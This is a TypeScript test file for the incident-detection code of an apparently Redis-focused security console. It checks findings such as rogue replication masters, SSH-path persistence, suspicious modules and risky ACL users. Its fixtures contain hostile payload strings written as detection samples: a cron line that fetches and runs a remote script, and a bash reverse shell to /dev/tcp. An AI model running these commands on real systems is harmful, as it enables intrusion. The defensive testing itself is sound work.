// Each sign of a compromise from the evidence, with its severity, evidence and the containment
// it suggests; and the things that are not signs (the console's own reads and clients).
import { describe, expect, it } from 'vitest';
import type { FindingContext, NodeEvidence } from '../../../src/domain/incident/evidence.js';
import { findingsOf, hasSevere } from '../../../src/domain/incident/findings.js';
import { inNetworks } from '../../../src/domain/incident/findings-access.js';
import { payloadName, payloadValue } from '../../../src/domain/incident/payload.js';
import { findingLines } from '../../../src/commands/incident.js';

const N = '10.0.0.1:6379';
const ctx = (over: Partial<FindingContext> = {}): FindingContext => ({
  targetNodes: [N, '10.0.0.2:6379'],
  expectedMasters: [],
  knownNetworks: [],
  ownClients: [],
  ...over,
});
const node = (over: Partial<NodeEvidence>): NodeEvidence => ({
  node: N,
  files: { config: 'n/config.json', info: 'n/info.txt', clients: 'n/clients.txt', 'acl-list': 'n/acl.txt' },
  ...over,
});
const kinds = (ev: NodeEvidence, c = ctx()) => findingsOf([ev], c).map((f) => f.kind);

describe('incident findings', () => {
  it('dir/dbfilename at .ssh is critical and suggests putting them back', () => {
    const [f] = findingsOf([node({ config: { dir: '/tmp/x/.ssh', dbfilename: 'authorized_keys' } })], ctx());
    expect(f).toMatchObject({ kind: 'persistence.path', severity: 'critical' });
    expect(f?.evidence[0]).toEqual({
      artefact: 'n/config.json',
      excerpt: 'dir /tmp/x/.ssh; dbfilename authorized_keys',
    });
    expect(f?.suggests[0]?.id).toBe('config.restore-persistence');
    expect(kinds(node({ config: { dir: '/var/lib/redis', dbfilename: 'dump.rdb' } }))).toEqual([]);
  });

  it('payload keys: names backup1..4 and values with cron lines, keys, downloads, shells', () => {
    expect(payloadName('backup3')).toBeDefined();
    expect(payloadName('backup5')).toBeUndefined();
    expect(payloadValue('\n\n*/1 * * * * curl -fsSL http://x/i.sh | sh\n\n')).toMatch(/crontab/);
    expect(payloadValue('ssh-rsa AAAAB3Nza root@x')).toMatch(/SSH/);
    expect(payloadValue('bash -i >& /dev/tcp/1.2.3.4/80 0>&1')).toMatch(/shell/);
    expect(payloadValue('{"cart":[1,2,3]}')).toBeUndefined();
    const keys = [
      {
        name: 'backup1',
        type: 'string',
        ttl: -1,
        value: '*/1 * * * * wget x',
        reason: 'the value holds a crontab line',
      },
      { name: 'cart:1', type: 'hash', ttl: 30 },
    ];
    const [f] = findingsOf([node({ keys })], ctx());
    expect(f).toMatchObject({ kind: 'keys.payload', severity: 'critical' });
    expect(f?.evidence).toHaveLength(1);
  });

  it('a master outside the target is high (unless expected) and suggests REPLICAOF NO ONE', () => {
    const info = { replication: { role: 'slave', master_host: '6.6.6.6', master_port: '21000' } };
    const [f] = findingsOf([node({ info })], ctx());
    expect(f).toMatchObject({ kind: 'replication.rogue-master', severity: 'high' });
    expect(f?.suggests).toEqual([{ id: 'replication.stop', params: { node: N } }]);
    expect(kinds(node({ info }), ctx({ expectedMasters: ['6.6.6.6:21000'] }))).toEqual([]);
    const inTarget = { replication: { role: 'slave', master_host: '10.0.0.2', master_port: '6379' } };
    expect(kinds(node({ info: inTarget }))).toEqual([]);
    const replica = {
      replication: { role: 'master', slave0: 'ip=6.6.6.7,port=1,state=online,offset=1,lag=0' },
    };
    expect(kinds(node({ info: replica }))).toEqual(['replication.unknown-replica']);
  });

  it('modules: any is high, one named system is critical; each suggests MODULE UNLOAD', () => {
    const fs = findingsOf(
      [node({ modules: [{ name: 'system', path: '/tmp/exp.so' }, { name: 'search' }] })],
      ctx(),
    );
    expect(fs.map((f) => [f.severity, f.suggests[0]?.params.name])).toEqual([
      ['critical', 'system'],
      ['high', 'search'],
    ]);
  });

  it('users: not in the baseline, changed, nopass, +@all; no baseline is said', () => {
    const users = [
      { name: 'default', enabled: false, nopass: true, rules: 'off nopass' },
      { name: 'app', enabled: true, nopass: false, rules: 'on #‹redacted› ~app:* +get' },
      { name: 'svc', enabled: true, nopass: false, rules: 'on #‹redacted› ~* +@all' },
    ];
    expect(kinds(node({ users }))).toEqual(['users.all-commands', 'users.no-baseline']);
    const baseline = { default: 'off nopass', app: 'on #‹redacted› ~app:* +get +set' };
    const fs = findingsOf([node({ users })], ctx({ baseline }));
    expect(fs.map((f) => f.kind).sort()).toEqual(['users.all-commands', 'users.changed', 'users.new']);
    expect(fs.find((f) => f.kind === 'users.new')?.suggests).toEqual([
      { id: 'acl.setuser', params: { change: 'block', user: 'svc' } },
    ]);
  });

  it("clients: a disabled user's, admin commands, unknown networks; never the console's own", () => {
    const users = [{ name: 'old', enabled: false, nopass: false, rules: 'off' }];
    const clients = [
      { id: '7', addr: '10.9.9.9:5000', user: 'old', cmd: 'get', name: '' },
      { id: '8', addr: '192.168.1.5:5001', user: 'x', cmd: 'config|set', name: '' },
      { id: '9', addr: '192.168.1.6:5002', user: 'x', cmd: 'config|set', name: 'redis-warden' },
    ];
    const fs = findingsOf(
      [node({ users, clients })],
      ctx({ ownClients: [`${N} 9`], knownNetworks: ['10.0.0.0/8'] }),
    );
    const byKind = Object.fromEntries(fs.map((f) => [f.kind, f]));
    expect(byKind['clients.disabled-user']?.suggests).toEqual([
      { id: 'client.kill', params: { clients: [{ node: N, id: '7', addr: '10.9.9.9:5000' }] } },
    ]);
    expect(byKind['clients.admin-command']?.evidence).toHaveLength(1);
    expect(byKind['clients.unknown-network']?.title).toMatch(/^1 client/);
    expect(inNetworks('10.1.2.3', ['10.0.0.0/8'])).toBe(true);
    expect(inNetworks('11.1.2.3', ['10.0.0.0/8'])).toBe(false);
    expect(inNetworks('::1', ['::1'])).toBe(true);
  });

  it("commandstats: CONFIG SET and FLUSHALL count, the console's CONFIG GET does not; WRONGPASS bursts; failed AUTHs by address", () => {
    const info = {
      commandstats: {
        'cmdstat_config|get': 'calls=5,usec=1',
        'cmdstat_config|set': 'calls=2,usec=1',
        cmdstat_flushall: 'calls=1,usec=1',
        cmdstat_get: 'calls=100,usec=1',
      },
      errorstats: { errorstat_WRONGPASS: 'count=250' },
    };
    const aclLog = [
      { count: 4, reason: 'auth', object: 'AUTH', username: 'a', addr: '5.5.5.5:1' },
      { count: 8, reason: 'auth', object: 'AUTH', username: 'b', addr: '5.5.5.5:2' },
      { count: 1, reason: 'command', object: 'get', username: 'c', addr: '5.5.5.6:2' },
    ];
    const fs = findingsOf([node({ info, aclLog })], ctx());
    expect(fs.map((f) => f.title)).toEqual(
      [
        'CONFIG SET was called 2 time(s) since the server started',
        'FLUSHALL was called 1 time(s) since the server started',
        '250 wrong passwords since the server started (a guessing burst?)',
        '12 failed AUTH(s) from 5.5.5.5 (users a, b)',
      ].sort((a, b) => fs.findIndex((f) => f.title === a) - fs.findIndex((f) => f.title === b)),
    );
    expect(fs).toHaveLength(4);
    expect(hasSevere(fs)).toBe(true);
    expect(hasSevere([])).toBe(false);
  });

  it('a node down is a finding of its own; names stay raw (escaped once, when shown)', () => {
    const fs = findingsOf([node({ down: 'ECONNREFUSED', modules: [{ name: 'm\x1b[31m' }] })], ctx());
    expect(fs.map((f) => f.kind)).toEqual(['modules.loaded', 'node.down']);
    expect(fs[0]?.title).toContain('module m\x1b[31m is loaded');
    expect(findingLines(fs).join('\n')).toContain('module m\\x1b[31m is loaded');
    expect(findingLines(fs).join('\n')).not.toContain('\x1b');
  });
});
